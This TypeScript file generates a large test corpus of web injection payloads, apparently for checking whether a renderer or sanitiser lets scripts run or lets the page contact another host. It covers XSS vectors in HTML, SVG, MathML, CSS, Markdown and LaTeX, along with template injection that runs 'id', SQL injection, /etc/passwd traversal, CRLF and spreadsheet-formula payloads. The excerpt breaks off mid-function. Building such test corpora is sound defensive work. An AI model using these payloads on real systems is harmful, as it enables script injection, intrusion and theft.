// What a model, or whoever wrote a file, could send to run a script or to make the browser speak to another host.
//
// The corpus is made, not collected: vectors × the ways to write them × where they stand. A vector is written with
// placeholders: `JS` is a script that tells of itself, `URL` an address elsewhere that tells of being asked for.
// Both carry the number of their payload, so that a hit names its cause.

export type Payload = {
  n: number;
  /** The class it is of. */
  group: Group;
  text: string;
};

export type Group = keyof typeof GROUPS;

/** What a script does to be noticed: each way that the page or the browser can see. */
const SCRIPTS = [
  (n: number) => `top.__hit(${n})`,
  (n: number) => `alert(${n})`,
  (n: number) => `top.postMessage(${n},'*')`,
  (n: number) => `confirm(${n})`,
  (n: number) => `window['ev'+'al']('top.__hit(${n})')`,
  (n: number) => `new Image().src='//HOST/img/${n}';top.__hit(${n})`,
  (n: number) => `prompt(${n})`,
  (n: number) => `fetch('//HOST/fetch/${n}',{mode:'no-cors'});top.__hit(${n})`,
];

type Write = (text: string) => string;

const each = (text: string, write: (sign: string) => string) => [...text].map(write).join("");
const decimal: Write = (text) => each(text, (sign) => `&#${sign.codePointAt(0)};`);
const padded: Write = (text) => each(text, (sign) => `&#x${sign.codePointAt(0)!.toString(16).padStart(6, "0")}`);
const mixed: Write = (text) => [...text].map((sign, at) => (at % 2 ? sign.toUpperCase() : sign)).join("");
const percent: Write = (text) => each(text, (sign) => `%${sign.charCodeAt(0).toString(16).padStart(2, "0")}`);
const base64: Write = (text) => btoa(text);

/** `vectors` × `ways`; a way takes a vector and writes it differently. */
const cross = <A, B>(vectors: readonly A[], ways: readonly B[], write: (vector: A, way: B) => string): string[] =>
  vectors.flatMap((vector) => ways.map((way) => write(vector, way)));

// ---- Elements that run something by themselves ----

const scripts = () => {
  const plain = [
    "<script>JS</script>", "<script>JS", "<script type=module>JS</script>", "<script type=text/javascript>JS</script>",
    "<script src=URL.js></script>", "<script src='URL.js' defer></script>", "<script type=module src=URL.js></script>",
    "<script src=data:text/javascript,JS></script>", "<script>/*\n*/JS//</script>", "<script><!--\nJS\n//--></script>",
    "<svg><script>JS</script></svg>", "<svg><script href=URL.js></script></svg>",
    "<svg><script xlink:href=data:,JS></script></svg>",
    "<svg><script><![CDATA[JS]]></script></svg>", "<math><script>JS</script></math>",
    "<script type=importmap>{\"imports\":{\"x\":\"URL.js\"}}</script>",
    "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"URL\"]}]}</script>",
    "<script async src=//HOST/js/N></script>",
  ];
  const ways: Write[] = [
    (text) => text, (text) => text.replace(/script/g, "ScRiPt"), (text) => text.replace(/<script/g, "<script/x"),
    (text) => text.replace(/<script/g, "<script\n"), (text) => `<b>${text}</b>`, (text) => `--><!-- -->${text}`,
    (text) => text.replace("script", "scr<script>ipt"),
  ];
  return cross(plain, ways, (text, way) => way(text));
};

/** An element, an event that fires by itself or as soon as somebody touches it, and what else it needs. */
const HANDLERS = [
  ["img", "onerror", "src=x"], ["img", "onload", "src=URL.png"], ["img", "onerror", "srcset=x"],
  ["image", "onerror", "src=x"], ["svg", "onload", ""], ["body", "onload", ""], ["body", "onpageshow", ""],
  ["input", "onfocus", "autofocus"], ["textarea", "onfocus", "autofocus"], ["select", "onfocus", "autofocus"],
  ["button", "onfocus", "autofocus"], ["a", "onfocus", "autofocus href=#"],
  ["div", "onfocus", "autofocus tabindex=0"],
  ["math", "onfocus", "autofocus tabindex=0"], ["details", "ontoggle", "open"], ["dialog", "onbeforetoggle", "open"],
  ["video", "onerror", "src=x"], ["audio", "onerror", "src=x"], ["video", "onloadstart", "src=x"],
  ["audio", "onloadstart", "src=x"],
  ["iframe", "onload", ""], ["iframe", "onload", "src=about:blank"], ["object", "onerror", "data=x"],
  ["embed", "onerror", "src=x"], ["input", "onerror", "type=image src=x"],
  ["link", "onerror", "rel=stylesheet href=x"], ["style", "onload", ""],
  ["script", "onerror", "src=x"], ["marquee", "onstart", ""], ["marquee", "onfinish", "loop=1"],
  ["frameset", "onload", ""], ["div", "onanimationstart", "style=animation:x"], ["div", "onanimationend", ""],
  ["div", "ontransitionend", ""],
  ["div", "onmouseover", ""], ["div", "onpointerenter", ""], ["a", "onclick", ""], ["button", "onclick", ""],
  ["form", "onsubmit", ""], ["form", "oninput", ""], ["div", "onscroll", ""], ["div", "onwheel", ""],
  ["div", "oncopy", ""],
  ["div", "onbeforematch", "hidden=until-found"], ["div", "onbeforeinput", "contenteditable"],
  ["div", "onsecuritypolicyviolation", ""],
  ["div", "oncontentvisibilityautostatechange", "style=content-visibility:auto"], ["div", "ontoggle", "popover"],
  ["slot", "onslotchange", ""], ["isindex", "onfocus", "autofocus"], ["x", "onfocus", "tabindex=1 autofocus"],
  ["svg", "onfocusin", "tabindex=0"], ["video", "onplay", "autoplay src=URL.mp4"], ["picture", "onclick", ""],
] as const;

const handlers = () => {
  const ways: ((name: string, event: string, rest: string) => string)[] = [
    (name, event, rest) => `<${name} ${event}=JS ${rest}>`,
    (name, event, rest) => `<${name.toUpperCase()} ${rest} ${mixed(event)}='JS'>x`,
    (name, event, rest) => `<${name}/${event}="JS"/${rest.replace(/ /g, "/")}>`,
    (name, event, rest) => `<${name}\n\t${rest}\f${event} \n= "JS" >`,
    (name, event, rest) => `"'><${name} ${event}="ENTITIES" ${rest}>`,
  ];
  return cross(HANDLERS, ways, ([name, event, rest], way) => way(name, event, rest));
};

// ---- Addresses that are programs ----

const SCHEMES: Write[] = [
  () => "javascript:JS", () => "JaVaScRiPt:JS", () => " \u0001javascript:JS", () => "java\tscript:JS",
  () => "java\nscript:JS", () => "java\r\nscript\n:JS",
  () => "&#106;avascript:JS", () => `${padded("javascript")}:JS`, () => "java&Tab;script&colon;JS",
  () => "&NewLine;javascript&colon;JS",
  () => "javascript://x%0aJS", () => "javascript:/*--></title></style>*/JS", () => "javascript:void(0);JS",
  () => "view-source:javascript:JS",
  () => "data:text/html,<script>JS</script>", () => `data:text/html;base64,BASE64`,
  () => "DATA:image/svg+xml,<svg onload=JS xmlns='http://www.w3.org/2000/svg'/>",
  () => "data:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml'><script>JS</script></x>",
  () => "vbscript:msgbox(N)", () => "livescript:JS",
  () => "\u00a0javascript:JS", () => "j\u200bavascript:JS", () => "blob:null/JS", () => "//HOST/html/N",
  () => "\\\\HOST/html/N",
];

const HOLDERS = [
  '<a href="AT">x</a>', "<a href='AT' target=_blank>x</a>", '<area href="AT" shape=default>',
  '<iframe src="AT"></iframe>', '<form action="AT"><button>x</button></form>',
  '<button form=f formaction="AT">x</button><form id=f></form>', '<object data="AT"></object>', '<embed src="AT">',
  '<svg><a href="AT"><text y=9>x</text></a></svg>', '<svg><a xlink:href="AT"><circle r=9 /></a></svg>',
  '<math href="AT">x</math>', '<base href="AT"><a href=#x>x</a>',
  '<svg><a><animate attributeName=href values="AT"/><text y=9>x</text></a></svg>',
];

const schemes = () => cross(HOLDERS, SCHEMES, (holder, scheme) => holder.replace("AT", scheme("")));

const refreshes = () =>
  cross(
    [
      '<meta http-equiv=refresh content="0;url=AT">', "<META HTTP-EQUIV='Refresh' CONTENT='0; URL=AT'>",
      '<meta content="0;AT" http-equiv=refresh>', '<svg><meta http-equiv=refresh content="0,AT">',
    ],
    ["javascript:JS", "data:text/html,<script>JS</script>", "URL.html", "//HOST/html/N"],
    (holder, at) => holder.replace("AT", at),
  );

// ---- Other languages within the page ----

const svg = () => [
  "<svg><animate onbegin=JS attributeName=x dur=1s>", "<svg><set onbegin=JS attributeName=x dur=1s>",
  "<svg><animateTransform onbegin=JS attributeName=x dur=1s>",
  "<svg><animateMotion onbegin=JS dur=1s>", "<svg><animate onend=JS attributeName=x dur=0.01s>",
  "<svg><discard onbegin=JS>", "<svg><g onload=JS></g></svg>",
  "<svg><a><set attributeName=href to=javascript:JS /><text y=9>x</text></a></svg>",
  "<svg><a id=x><rect width=99 height=99 /></a><animate href=#x attributeName=href values=;javascript:JS dur=.01s fill=freeze /></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>JS</script></svg>#x'/></svg>",
  "<svg><use href=URL.svg#x /></svg>", "<svg><use xlink:href='URL.svg#x'/></svg>",
  "<svg><foreignObject><img src=x onerror=JS></foreignObject></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>JS</script>'></iframe></foreignObject></svg>",
  "<svg><desc><img src=x onerror=JS></desc></svg>", "<svg><title><img src=x onerror=JS></title></svg>",
  "<svg><title><style><img src=x onerror=JS></style></title></svg>",
  "<svg><style><img src=x onerror=JS></style></svg>", "<svg><style>@import 'URL.css';</style></svg>",
  "<svg><style>*{background:url(URL.png)}</style></svg>", "<svg><image href=URL.png /></svg>",
  "<svg><image xlink:href=URL.png x=0 y=0 width=9 height=9 onerror=JS /></svg>",
  "<svg><filter id=f><feImage href=URL.png /></filter><rect filter=url(#f) width=9 height=9 /></svg>",
  "<svg><rect fill='url(URL.svg#x)' width=9 height=9 /></svg>",
  "<svg><rect style='mask:url(URL.svg#x)' width=9 height=9 /></svg>",
  "<svg><text><textPath href=URL.svg#x>x</textPath></text></svg>",
  "<svg><mpath href=URL.svg#x /></svg>", "<svg><linearGradient href=URL.svg#x /></svg>",
  "<svg><script/href=data:,JS />", "<svg><handler type=text/javascript ev:event=load>JS</handler></svg>",
  "<svg><x><script>JS</script></x></svg>", "<svg/onload=JS//", "<svg onload=JS><svg onload=JS>",
  "<svg></p><img src=x onerror=JS>", "<svg><![CDATA[><img src=x onerror=JS>]]></svg>",
  "<svg contentScriptType=text/vbs><script>JS</script>", "<svg><cursor href=URL.png /></svg>",
  "<svg><font-face-src><font-face-uri href=URL.woff /></font-face-src></svg>",
  "<svg><video><source onerror=JS></video></svg>",
  "<svg><a href=javascript:JS><animate attributeName=x /><tspan>x</tspan></a></svg>",
  "<?xml-stylesheet href=\"javascript:JS\"?><svg onload=JS />",
];

const mathml = () => [
  "<math><maction actiontype=statusline href=javascript:JS>x</maction></math>",
  "<math><maction actiontype='statusline#http://x' xlink:href='javascript:JS'>x</maction></math>",
  "<math><mi href=javascript:JS>x</mi></math>",
  "<math><mrow xlink:href='javascript:JS'><mn>1</mn></mrow></math>",
  "<math><annotation-xml encoding=text/html><img src=x onerror=JS></annotation-xml></math>",
  "<math><annotation-xml encoding=application/xhtml+xml><script>JS</script></annotation-xml></math>",
  "<math><semantics><annotation-xml encoding=SVG1.1><svg onload=JS></annotation-xml></semantics></math>",
  "<math><mtext><img src=x onerror=JS></mtext></math>",
  "<math><mi><iframe srcdoc='<script>JS</script>'></mi></math>", "<math><mglyph src=URL.png alt=x /></math>",
  "<math><mspace onfocus=JS autofocus tabindex=0 /></math>",
  "<math><mtext><table><mglyph><style><img src=x onerror=JS></style></mglyph></table></mtext></math>",
  "<math><mtext><mglyph><style><!--</style><img title='--><img src=x onerror=JS>'></mglyph></mtext></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=JS></style></mglyph></form></mtext></math>",
  "<math><style><img src=x onerror=JS></style></math>", "<math></p><style><!--</style><img src/onerror=JS>-->",
  "<math><mstyle background='url(URL.png)'>x</mstyle></math>", "<math altimg=URL.png>x</math>",
  "<math definitionURL=javascript:JS><mi>x</mi></math>",
  "<math><mfrac href=URL.html><mi>1</mi><mi>2</mi></mfrac></math>",
  "<math><malignmark><script>JS</script></math>", "<math><x><svg><script>JS</script></svg></x></math>",
  "<math><ms><svg onload=JS></ms></math>", "<math><mo><style><a title='</style><img src=x onerror=JS>'></mo></math>",
];

const frames = () =>
  cross(
    ["<script>JS</script>", "<img src=x onerror=JS>", "<svg onload=JS>", "<body onload=JS>"],
    [
      '<iframe srcdoc="AT"></iframe>', "<iframe srcdoc='ENTITIES_AT'></iframe>",
      '<iframe sandbox="allow-scripts" srcdoc="AT"></iframe>', '<iframe src="data:text/html,AT"></iframe>',
      '<object data="data:text/html,AT"></object>',
      '<embed type=text/html src="data:text/html,AT">', '<iframe src=URL.html></iframe>',
      '<iframe src="javascript:\'AT\'"></iframe>', "<frameset><frame src='data:text/html,AT'></frameset>",
      '<object type=text/html data=URL.html></object>',
      '<iframe credentialless src=URL.html></iframe>', '<portal src=URL.html></portal>',
      '<fencedframe src=URL.html></fencedframe>', "<object><param name=src value=URL.html></object>",
      "<applet code=URL.html></applet>", '<iframe name="top" src="data:text/html,AT"></iframe>',
    ],
    (inner, frame) => frame.replace("ENTITIES_AT", () => decimal(inner.replace("JS", "top.__hit(N)")).replace("&#78;", "N")).replace("AT", () => inner),
  );

// ---- Markup that changes while it is read ----

const mutations = () => {
  const wraps = [
    ["<noscript><p title=\"</noscript>", "\"></noscript>"], ["<template>", "</template>"], ["<title>", "</title>"],
    ["<title></title>", ""], ["<textarea>", "</textarea>"], ["<textarea></textarea>", ""],
    ["<xmp>", "</xmp>"], ["<xmp><p title=\"</xmp>", "\"></xmp>"], ["<plaintext>", ""], ["<noembed>", "</noembed>"],
    ["<noframes>", "</noframes>"], ["<noembed><p id=\"</noembed>", "\">"], ["<style><p id=\"</style>", "\">"],
    ["<style></style>", ""], ["<select><option>", "</select>"], ["<select></select>", ""],
    ["<table><td>", "</table>"], ["<table><a>", "</table>"], ["<!--", "-->"], ["<!-->", "-->"], ["<!--->", ""],
    ["<!-- --!>", ""], ["<!--><!-->", ""],
    ["<![CDATA[", "]]>"], ["<![CDATA[>", "]]>"], ["<?x ", "?>"], ["<?x >", ""], ["</x ", ">"], ["<//", ">"],
    ["<!x>", ""], ["<p><form><p>", "</form>"], ["<form><form>", "</form></form>"], ["<a><a>", "</a></a>"],
    ["<b><p><b>", "</p></b>"],
    ["<svg><p>", "</svg>"], ["<math><p>", "</math>"], ["<button><button>", ""], ["<frameset>", ""],
    ["<body><body>", ""], ["<html><head>", "</head>"], ["<ul><li><svg><desc>", "</li></ul>"], ["<nobr><nobr>", ""],
    ["<dl><dt><dd>", ""],
    ["<option><", "\"'>"], ["<iframe>", "</iframe>"], ["<object>", "</object>"], ["<video><source>", "</video>"],
    ["<details open><summary>", "</details>"], ["<slot>", "</slot>"],
    ["<div><template shadowrootmode=open>", "</template></div>"],
  ] as const;
  return cross(wraps, ["<img src=x onerror=JS>", "<svg onload=JS>", "<script>JS</script>", "<img src=URL.png>"], ([before, after], inner) => before + inner + after);
};

/** Out of where a text could stand in markup: an attribute, a text that is no markup, a script, a comment. */
const breakouts = () =>
  cross(
    [
      '">', "'>", "`>", ">", "\"/>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>",
      "</template>", "</option></select>", "</td></table>", "</svg>", "</math>", "-->", "]]>", "*/", "\\\">",
      "&quot;>", "\n\n>", "</p></div></main></body>",
    ],
    [
      "<img src=x onerror=JS>", "<svg/onload=JS>", "<script>JS</script>", "<iframe srcdoc='<script>JS</script>'>",
      "<details open ontoggle=JS>",
    ],
    (out, inner) => out + inner,
  ).concat(
    cross(['" ', "' ", "` ", '"/', "x "], ["autofocus onfocus=JS x=", "onmouseover=JS ", "style=background:url(URL.png) ", "onerror=JS src=x "], (out, inner) => `${out}${inner}${out.trim()}`),
  );

// ---- Requests without a script ----

const fetchers = () => {
  const vectors = [
    "<img src=AT>", "<img srcset='AT 1x'>", "<img src=x srcset=AT sizes=9px>",
    "<picture><source srcset=AT><img></picture>", "<video poster=AT></video>", "<video src=AT autoplay></video>",
    "<audio src=AT preload=auto></audio>",
    "<video><source src=AT></video>", "<video autoplay src=x><track default src=AT></video>",
    "<input type=image src=AT>", "<body background=AT>", "<table background=AT><td>x</table>", "<td background=AT>",
    "<bgsound src=AT>", "<link rel=stylesheet href=AT>",
    "<link rel=icon href=AT>", "<link rel=apple-touch-icon href=AT>", "<link rel=preload as=image href=AT>",
    "<link rel=preload as=fetch crossorigin href=AT>", "<link rel=prefetch href=AT>", "<link rel=prerender href=AT>",
    "<link rel=modulepreload href=AT>",
    "<link rel=manifest href=AT>", "<link rel=import href=AT>", "<link rel='alternate stylesheet' href=AT>",
    "<style>@import 'AT';</style>", "<style>@import url(AT);</style>", "<style>*{background:url(AT)}</style>",
    "<style>*{list-style:url(AT)}</style>",
    "<style>*{cursor:url(AT),auto}</style>", "<style>*{content:url(AT)}</style>",
    "<style>*{border-image:url(AT)}</style>", "<style>*{background:image-set('AT' 1x)}</style>",
    "<style>@font-face{font-family:x;src:url(AT)}*{font-family:x}</style>",
    "<style>input[value^=a]{background:url(AT)}</style><input value=ab>", "<div style=background:url(AT)>x</div>",
    "<div style='background-image:image-set(\"AT\" 1x)'>x</div>",
    "<div style='list-style:url(AT);display:list-item'>x</div>", "<p style='--x:url(AT);background:var(--x)'>x</p>",
    "<iframe src=AT></iframe>", "<object data=AT></object>", "<embed src=AT>", "<svg><image href=AT></svg>",
    "<a href=# ping=AT>x</a>", "<form action=AT><input type=submit></form>", "<html manifest=AT>",
    "<math><mglyph src=AT></math>", "<script src=AT></script>",
    "<base href=AT><img src=x.png>", "<img longdesc=AT lowsrc=AT dynsrc=AT>",
    "<link rel=dns-prefetch href=AT><link rel=preconnect href=AT>",
  ];
  const addresses = ["URL.png", "//HOST/img/N", "\\\\HOST\\img\\N", "HTTP:&#x2f;&#x2F;HOST/img/N", "/&Tab;/HOST/img/N"];
  return cross(vectors, addresses, (vector, address) => vector.replace(/AT/g, address));
};

const css = () =>
  cross(
    [
      "width:expression(JS)", "behavior:url(URL.htc)", "-moz-binding:url(URL.xml#x)",
      "background:url(javascript:JS)", "background:url('javascript:JS')", "list-style-image:url(\"javascript:JS\")",
      "xss:expr/**/ession(JS)", "width:\\65xpression(JS)",
      "background:u\\72l(URL.png)", "background:URL(URL.png)", "background:url( \"URL.png\" )",
      "background:image(URL.png)", "filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src=URL.png)",
      "position:fixed;inset:0;z-index:99;background:url(URL.png)",
      "animation:x 1s", "shape-outside:url(URL.png)", "clip-path:url(URL.svg#x)", "offset-path:url(URL.svg#x)",
      "mask-image:url(URL.png)",
    ],
    [
      '<p style="AT">x</p>', "<style>p{AT}</style><p>x</p>", "<svg><rect style='AT' width=9 height=9></svg>",
      "</style><style>*{AT}",
    ],
    (rule, holder) => holder.replace("AT", () => rule.replace(/"/g, "'")),
  );

/** Names that hide the page's own: what a script of ours asks for would be an element of theirs. */
const clobbering = () =>
  cross(
    [
      "lifeboat", "trustedTypes", "main", "boot", "document", "location", "body", "head", "cookie", "getElementById",
      "createElement", "querySelector", "forms", "defaultView", "adoptedStyleSheets", "localStorage", "indexedDB",
      "history", "performance", "queueMicrotask", "__proto__", "constructor",
    ],
    [
      "<a id=AT href='javascript:JS'>x</a>", "<img name=AT src=x onerror=JS>",
      "<form id=AT><input name=attributes><input name=parentNode><input id=AT></form>",
      "<iframe name=AT srcdoc='<a id=x href=URL.html>'></iframe>",
    ],
    (name, holder) => holder.replace(/AT/g, name),
  );

// ---- Languages of text ----

const templates = () =>
  cross(
    [
      "constructor.constructor('JS')()", "$on.constructor('JS')()", "7*7",
      "self.__class__.__mro__[1].__subclasses__()", "config.items()", "''|safe", "x|attr('__class__')",
      "range(999999999)|list", "cycler.__init__.__globals__.os.popen('id').read()", "_self.env", "JS",
      "'<img src=x onerror=JS>'|safe", "dump(app)", "request.application",
    ],
    ["{{AT}}", "{{{AT}}}", "{% if AT %}x{% endif %}", "${AT}", "#{AT}", "<%= AT %>", "[[AT]]", "{{= AT }}"],
    (inner, holder) => holder.replace("AT", () => inner),
  ).concat([
    "{% for a in range(9999) %}{% for b in range(9999) %}x{% endfor %}{% endfor %}",
    "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}", "{% include 'URL' %}", "{% import 'x' as y %}",
    "{% set x = '<img src=x onerror=JS>' %}{{ x|safe }}", "{% raw %}<img src=x onerror=JS>{% endraw %}",
    "<div ng-app ng-csp><p ng-focus=JS autofocus tabindex=0>x</p></div>",
    "<div v-on:click=JS v-html=\"'<img src=x onerror=JS>'\">x</div>", "<div x-data x-init=JS>x</div>",
    "<div hx-get=URL.html hx-trigger=load hx-on::load=JS>x</div>", "<div _='on load JS'>x</div>",
    "<div data-bind=\"html:'<img src=x onerror=JS>'\">x</div>",
  ]);

const markdown = () => {
  const links = SCHEMES.slice(0, 24).map((scheme) => scheme("").replace(/[\n\r]/g, "&#10;"));
  const holders = ["[x](<AT>)", "[x](AT)", "![x](<AT>)", "[x]: <AT>\n\n[x]", "<AT>", "[x](<AT> \"\\\"onmouseover=JS\")"];
  const others = [
    "![x](URL.png)", "[![x](URL.png)](javascript:JS)", "![x][y]\n\n[y]: URL.png 'JS'",
    "[x](URL.html \"a\\\" onfocus=JS autofocus tabindex=0 x=\\\"\")", "[a<img src=x onerror=JS>](URL.html)",
    "![\"onerror=JS x=\"](x)", "![x](x \"'onerror=JS'\")", "x[^1]\n\n[^1]: <img src=x onerror=JS>",
    "[^<img src=x onerror=JS>]\n\n[^<img src=x onerror=JS>]: x", "<div>\n\n**x** <img src=x onerror=JS>\n\n</div>",
    "<script>\n\nJS\n\n</script>", "<pre><img src=x onerror=JS></pre>",
    "<style>\n*{background:url(URL.png)}\n</style>", "<!-- x\n\n--> <img src=x onerror=JS>",
    "<?php\n\n?><img src=x onerror=JS>", "<!X <img src=x onerror=JS>>", "<![CDATA[ ]]><img src=x onerror=JS>",
    "```html onload=JS\n<script>JS</script>\n```", "```<img src=x onerror=JS>\nx\n```",
    "~~~\"><img src=x onerror=JS>\nx\n~~~", "`<script>JS</script>`", "    <script>JS</script>",
    "|<img src=x onerror=JS>|b|\n|-|-|\n|<script>JS</script>|[x](javascript:JS)|", "# <img src=x onerror=JS>",
    "<img src=x onerror=JS>\n===", "> <img src=x onerror=JS>", "- [ ] <img src=x onerror=JS>", "1. <svg onload=JS>",
    "*<img src=x onerror=JS>*", "\\<img src=x onerror=JS>",
    "&lt;img src=x onerror=JS&gt;", "&#60;img src=x onerror=JS&#62;", "www.HOST/img/N", "http://HOST/img/N",
    "mailto:x@HOST?subject=N", "<http://HOST/img/N>", "<x@HOST>", "[x](http://HOST/img/N)", "[x](//HOST/img/N)",
    "[x](\\\\HOST/img/N)", "![x](data:image/svg+xml,<svg/onload=JS>)",
    "![x](data:image/svg+xml;base64,BASE64)", "![x](data:image/png;base64,BASE64)",
    "![x](data:image/gif,GIF89a/*URL.png*/)", "![x](data:text/html;base64,BASE64)",
    "[x](data:text/html;base64,BASE64)", "![[URL.png]]", ":::html\n<img src=x onerror=JS>\n:::", "{onclick=JS}",
    "[x](URL.html){onclick=JS}",
    "<a href=\"javascript:JS\">x</a>", "<details open ontoggle=JS>\n\nx\n\n</details>",
    "[x]\n\n[x]: javascript:JS \"<img src=x onerror=JS>\"", "[x][]\n\n[x]:\njavascript:JS",
    "[<svg onload=JS>][y]\n\n[y]: x", "***\n<img src=x onerror=JS>\n***", "a  \n<img src=x onerror=JS>",
    "<details><summary>x</summary>\n\n![x](URL.png)\n\n</details>", "[x](<java\nscript:JS>)", "![x](URL.png =1x1)",
    "![](URL.png \"x\")![](URL.png)", "<img\nsrc=URL.png\n>", "[x]( \u0000javascript:JS)",
    "---\nlayout: <img src=x onerror=JS>\n---", "@import url(URL.css)",
  ];
  return cross(links, holders, (link, holder) => holder.replace("AT", () => link)).concat(others);
};

const latex = () => {
  const commands = [
    "\\href{javascript:JS}{x}", "\\href{URL.html}{x}", "\\url{javascript:JS}", "\\html{<img src=x onerror=JS>}",
    "\\htmlClass{x\" onfocus=\"JS}{x}", "\\htmlId{lifeboat}{x}", "\\htmlStyle{background:url(URL.png)}{x}",
    "\\htmlData{x=\"><img src=x onerror=JS>}{x}",
    "\\includegraphics{URL.png}", "\\includegraphics[alt=x]{javascript:JS}",
    "\\unicode[x\"><img src=x onerror=JS>]{60}", "\\unicode{60}", "\\text{<img src=x onerror=JS>}",
    "\\text{</math><script>JS</script>}", "\\mathrm{<svg onload=JS>}", "\\operatorname{<img src=x onerror=JS>}",
    "\\style{background:url(URL.png)}{x}", "\\class{x\" onclick=\"JS}{x}", "\\cssId{main}{x}", "\\data{x}{y}",
    "\\require{html}", "\\input{URL}", "\\write18{id}", "\\catcode`\\<=1", "\\def\\x{\\x\\x}\\x",
    "\\def\\x#1{\\href{#1}{x}}\\x{javascript:JS}", "\\newcommand{\\x}{<img src=x onerror=JS>}\\x",
    "\\let\\x\\href\\x{javascript:JS}{y}", "\\color{red;background:url(URL.png)}x",
    "\\textcolor{\"><img src=x onerror=JS>}{x}", "\\colorbox{url(URL.png)}{x}",
    "\\mmlToken{mi}[href=\"javascript:JS\"]{x}", "\\begin{array}{<img src=x onerror=JS>}x\\end{array}",
    "\\begin{<svg onload=JS>}x\\end{<svg onload=JS>}",
    "\\tag{<img src=x onerror=JS>}x", "\\label{<img src=x onerror=JS>}\\ref{x}",
    "\\left<img src=x onerror=JS\\right>", "</math><img src=x onerror=JS>", "<script>JS</script>",
    "x<y \\& \\lt img src=x onerror=JS\\gt", "\\char\"3C img", "\\mathchar\"3C", "^^3cscript^^3eJS",
    "\\special{html:<img src=x onerror=JS>}",
    "\\hbox{<iframe srcdoc='<script>JS</script>'>}", "\\toggle{x}{<img src=x onerror=JS>}\\endtoggle",
    "\\texttip{x}{<img src=x onerror=JS>}", "\\enclose{x\" onload=\"JS}{x}", "\\verb|<img src=x onerror=JS>|",
    "\\ce{<img src=x onerror=JS>}",
  ];
  const delimiters = ["$AT$", "$$\nAT\n$$", "\\(AT\\)"];
  return cross(commands, delimiters, (command, delimiter) => delimiter.replace("AT", () => command));
};

// ---- Characters that are not what they seem, and texts that become markup when they are decoded once more ----

const invisible = () =>
  cross(
    ["\u202e", "\u2066", "\u200b", "\u0000", "\ufeff", "\u00ad", "\u{e0041}", "\u2028", "\u0085", "\ufff9"],
    [
      "<ATscript>JS</script>", "<img srcAT=x onerrorAT=JS>", "<img src=x onATerror=JS>", "<img AT src=x onerror=JS>",
      "[x](javaATscript:JS)", "ATjavascript:JS", "<AT/img src=x onerror=JS>AT",
    ],
    (sign, vector) => vector.replace(/AT/g, sign),
  );

const encodings = () => {
  const vectors = ["<script>JS</script>", "<img src=x onerror=JS>", "<svg onload=JS>", "<a href=\"javascript:JS\">x</a>"];
  const swap =
    (pairs: [RegExp, string][]): Write =>
    (text) => pairs.reduce((written, [from, to]) => written.replace(from, to), text);
  const ways: Write[] = [
    swap([[/</g, "&lt;"], [/>/g, "&gt;"]]), swap([[/</g, "&amp;lt;"], [/>/g, "&amp;gt;"]]),
    swap([[/</g, "&lt"], [/>/g, "&gt"]]), swap([[/</g, "&#60;"], [/>/g, "&#62;"]]),
    swap([[/</g, "&#x000003c"], [/>/g, "&#x3E;"]]),
    swap([[/</g, "%3C"], [/>/g, "%3E"]]), swap([[/</g, "%253C"], [/>/g, "%253E"]]),
    swap([[/</g, "\\u003c"], [/>/g, "\\u003e"]]), swap([[/</g, "\\x3c"], [/>/g, "\\x3e"]]),
    swap([[/</g, "+ADw-"], [/>/g, "+AD4-"]]), swap([[/</g, "\uff1c"], [/>/g, "\uff1e"]]),
    swap([[/</g, "\u00c0\u00bc"], [/>/g, "\u00c0\u00be"]]), swap([[/</g, "\u00e0\u0080\u00bc"]]),
    swap([[/</g, "\u2039"], [/>/g, "\u203a"]]), swap([[/</g, "\u02c2"]]), swap([[/</g, "=3C"], [/>/g, "=3E"]]),
    swap([[/</g, "\\74 "], [/>/g, "\\76 "]]), swap([[/</g, "<\u0000"]]),
    (text) => percent(text.replace("JS", "top.__hit(0)")), (text) => decimal(text.replace("JS", "top.__hit(0)")),
    mixed, (text) => [...text].join("\u0000"), (text) => `\u001b$B${text}`,
    (text) => `\u00bd${text.replace(/</g, "\u00be")}`,
  ];
  return cross(vectors, ways, (vector, way) => way(vector));
};

/** The names of things in programs: as keys and values they must be words like any other. */
const names = () => [
  "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "null", "undefined", "NaN",
  "[object Object]", "../../etc/passwd", "..\\..\\x", "con", "%00", "%n%s", "' OR 1=1 --", "\";JS//", "';JS//",
  "`${JS}`", "\\\";JS//", "</script>JS", "\r\nLocation: URL", "\r\n\r\n<script>JS</script>",
  "=HYPERLINK(\"URL\")", "@SUM(1)*cmd|' /C x'!A0", "-1+1", "+1|cmd", "\tJS", "data:,JS", "file:///etc/passwd",
  "about:blank", "#/task/x/y", "#/open?pack=URL", "?x=<script>JS</script>", "//HOST/x/N", "tm1:j:w:1",
  "tm1:lifeboat",
];

/** Every class of payload, by its name. */
const GROUPS = {
  scripts, handlers, schemes, refreshes, svg, mathml, frames, mutations, breakouts, fetchers, css, clobbering,
  templates, markdown, latex, invisible, encodings, names,
};

/** The classes that are markup: where a text became it, they would act. */
export const MARKUP: Group[] = [
  "scripts", "handlers", "schemes", "refreshes", "svg", "mathml", "frames", "mutations", "breakouts", "fetchers", "css",
  "clobbering",
];

/** The corpus; `host` is where addresses lead, such as `127.0.0.1:1234`. */
export function payloads(host: string): Payload[] {
  const known = new Set<string>();
  const all: Payload[] = [];
  for (const [group, make] of Object.entries(GROUPS)) {
    for (const vector of make()) {
      if (known.has(vector)) continue;
      known.add(vector);
      const n = all.length + 1;
      all.push({ n, group: group as Group, text: filled(vector, n, host) });
    }
  }
  return all;
}

function filled(vector: string, n: number, host: string): string {
  const js = SCRIPTS[n % SCRIPTS.length](n);
  // What is of no origin cannot call the page; and where no quotes may stand, a script has none.
  const message = `top.postMessage(${n},\`*\`)`;
  const isApart = /data:|srcdoc|sandbox/i.test(vector);
  const mayQuote = vector.includes('"JS') || vector.includes(">JS<");
  const bare = isApart ? message : mayQuote ? js : n % 2 ? `top.__hit(${n})` : message;
  return vector
    .replace(/ENTITIES/g, () => decimal(bare))
    .replace(/BASE64/g, () => base64(`<svg xmlns='http://www.w3.org/2000/svg' onload='top.postMessage(${n},"*")'><script>top.postMessage(${n},"*")</script></svg>`))
